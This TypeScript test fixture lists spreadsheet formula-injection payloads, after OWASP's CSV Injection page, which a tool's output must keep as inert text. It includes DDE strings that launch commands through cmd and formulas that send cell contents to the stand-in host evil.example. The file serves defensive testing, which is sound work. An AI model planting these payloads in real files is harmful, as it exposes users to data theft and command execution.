/**
 * Formula-injection payloads, after OWASP's "CSV Injection" page: texts a spreadsheet would run as a
 * formula if a program wrote them as one. Each must stay inert text wherever the tool writes it.
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+thisIsNotAFunction()',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=2+5+cmd|' /C calc'!A0",
  '＝1+1',
];

/** A payload as the reader keeps it: cells are trimmed, so a leading tab or CR goes. */
export const asRead = (payload: string): string => payload.trim();
